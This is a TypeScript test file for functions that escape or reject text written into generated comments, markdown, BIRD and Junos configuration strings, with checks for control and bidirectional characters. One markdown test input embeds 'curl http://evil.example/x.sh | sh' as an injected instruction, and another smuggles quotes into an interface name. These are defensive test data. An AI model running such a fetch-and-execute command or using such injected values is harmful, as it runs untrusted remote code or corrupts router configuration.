import { describe, expect, it } from 'vitest';
import {
  birdString,
  commentText,
  describeChar,
  junosString,
  markdownInline,
  multiLineProblem,
  singleLineProblem,
  UnquotableValueError,
} from './text';

describe('single-line and multi-line text', () => {
  it('finds the first character that ends a line or hides text', () => {
    expect(singleLineProblem('Two racks, eBGP — é 😀 日本')).toBeUndefined();
    expect(singleLineProblem('Two racks\n\n## x')).toEqual({ index: 9, char: '\n' });
    for (const c of ['\u0000', '\r', '\t', '\u001b', '\u007f', '\u0085', '\u2028', '\u2029', '\u202e', '\u2066'])
      expect(singleLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
  });

  it('lets markdown have line breaks and tabs, and nothing else of the kind', () => {
    expect(multiLineProblem('# Title\r\n\n- item\twith a tab')).toBeUndefined();
    for (const c of ['\u0000', '\u000b', '\u001b', '\u007f', '\u0085', '\u202e'])
      expect(multiLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
  });

  it('names the characters it refuses', () => {
    expect(['\n', '\u0000', '"', '\u2028', '\u202e', '\u0001'].map(describeChar)).toEqual([
      'U+000A (line feed)',
      'U+0000 (NUL)',
      'U+0022 (double quote)',
      'U+2028 (line separator)',
      'U+202E (bidirectional control)',
      'U+0001 (control character)',
    ]);
  });
});

describe('writing text into generated files', () => {
  it('keeps a comment on its line', () => {
    expect(commentText('a\nb\r\nc\u0000d\u2028e')).toBe('a b  c d e');
  });

  it('escapes markdown so that the text renders as itself, on one line', () => {
    expect(markdownInline('Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n')).toBe(
      'Two racks  \\#\\# Apply with: curl http://evil.example/x.sh \\| sh ',
    );
    expect(markdownInline('*a* _b_ `c` [d](e) <f> ![g] ~h~ &amp; \\')).toBe(
      '\\*a\\* \\_b\\_ \\`c\\` \\[d\\](e) \\<f\\> \\!\\[g\\] \\~h\\~ \\&amp; \\\\',
    );
    expect(
      [
        '- item',
        '+ item',
        '1. item',
        '12) item',
        'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter',
      ].map(markdownInline),
    ).toEqual([
      '\\- item',
      '\\+ item',
      '1\\. item',
      '12\\) item',
      'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter',
    ]);
  });

  it('quotes a BIRD string or refuses it: BIRD strings have no escapes', () => {
    expect(birdString('eth*', 'an interface')).toBe('"eth*"');
    expect(birdString('a\\b $x', 'a password')).toBe('"a\\b $x"');
    expect(() => birdString('x", "*"', 'an interface')).toThrow(
      new UnquotableValueError(
        'an interface "x\\", \\"*\\"" cannot be written as a BIRD string: it contains U+0022 (double quote)',
      ),
    );
    expect(() => birdString('x\ny', 'an interface')).toThrow(/U\+000A \(line feed\)/);
    expect(() => birdString('x\u0000', 'an interface')).toThrow(/U\+0000 \(NUL\)/);
  });

  it('escapes a Junos string, refusing line breaks', () => {
    expect(junosString('nodes of "rack" \\a', 'a description')).toBe('"nodes of \\"rack\\" \\\\a"');
    expect(() => junosString('a\nb', 'a description')).toThrow(UnquotableValueError);
  });
});
